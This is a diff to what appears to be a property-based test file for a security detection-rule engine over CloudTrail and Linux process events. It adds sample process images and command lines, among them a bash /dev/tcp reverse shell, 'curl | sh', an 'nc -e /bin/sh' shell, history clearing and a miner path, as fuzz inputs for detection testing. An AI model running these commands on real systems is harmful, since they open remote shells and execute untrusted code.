@@ -14,7 +14,10 @@ NAMES = ["CreateBucket", "PutBucketPolicy", "StopLogging", "DeleteTrail", "Conso
          "AuthorizeSecurityGroupIngress", "GetSecretValue", "ListBuckets", "DisableKey", "Other"]
 SOURCES = ["s3.amazonaws.com", "cloudtrail.amazonaws.com", "iam.amazonaws.com", "ec2.amazonaws.com",
            "signin.amazonaws.com", "kms.amazonaws.com", "secretsmanager.amazonaws.com"]
-IMAGES = ["/usr/bin/curl", "/bin/bash", "/usr/bin/wget", "/tmp/x/curl", "/usr/sbin/sshd", "nc"]
+IMAGES = ["/usr/bin/curl", "/bin/bash", "/usr/bin/wget", "/tmp/x/curl", "/usr/sbin/sshd", "nc", "C:\\bin\\curl",
+          "/usr/bin/nc", "/usr/bin/python3", "/tmp/xmrig"]
+COMMANDS = ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "curl http://x | sh", "ls -la", "nc -e /bin/sh 1.2.3.4 9",
+            "history -c", "crontab -l", "python3 -c 'import pty'"]
 
 EXTRA_RULES = "\n---\n".join([
     rule_yaml({"sel": {"eventName": ["CreateBucket", "DeleteTrail"], "eventSource|endswith": ".amazonaws.com"},
@@ -29,7 +32,7 @@ EXTRA_RULES = "\n---\n".join([
 ])
 
 RULESET = load_rules([], include_builtin="cloudtrail")
-EXTRA = load_rules_text(EXTRA_RULES, include_builtin="cloudtrail")
+EXTRA = load_rules_text(EXTRA_RULES, include_builtin=True)  # with the Linux built-ins: presence/basename keys
 
 
 def _case(draw_name: str, cased: bool) -> str:
@@ -45,6 +48,9 @@ events = st.fixed_dictionaries(
                                                "userName": st.sampled_from(["alice", "bob"])}),
         "Image": st.sampled_from(IMAGES),
         "User": st.sampled_from(["root", "www"]),
+        "CommandLine": st.one_of(st.none(), st.sampled_from(COMMANDS)),
+        "ParentImage": st.sampled_from(IMAGES),
+        "TargetFilename": st.sampled_from(["/etc/crontab", "/etc/sudoers", "/home/a/.bashrc", "/tmp/x"]),
         "tags": st.lists(st.sampled_from(["prod", "dev"]), max_size=2),
         "errorCode": st.one_of(st.none(), st.just("AccessDenied")),
         "userAgent": st.sampled_from(["aws-cli/2", "Pacu/1.0", "Boto3"]),
